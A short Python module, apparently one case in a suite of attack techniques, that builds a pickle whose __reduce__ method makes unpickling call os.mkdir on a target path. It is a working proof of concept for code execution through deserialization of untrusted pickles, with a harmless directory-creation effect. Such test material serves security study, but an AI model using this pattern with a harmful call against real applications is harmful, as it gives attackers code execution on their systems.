"""A pickle that calls a C function when it is read."""
CATEGORY = "callable"
REACH = "write"
BEYOND = (
    "What the application does with data that a package hands to it is the "
    "application's: it reads a pickle that it does not trust.")

import os
import pickle

from . import payload


class Own:
    def __reduce__(self):
        return os.mkdir, (payload.TARGET,)


def make():
    return pickle.dumps(Own())
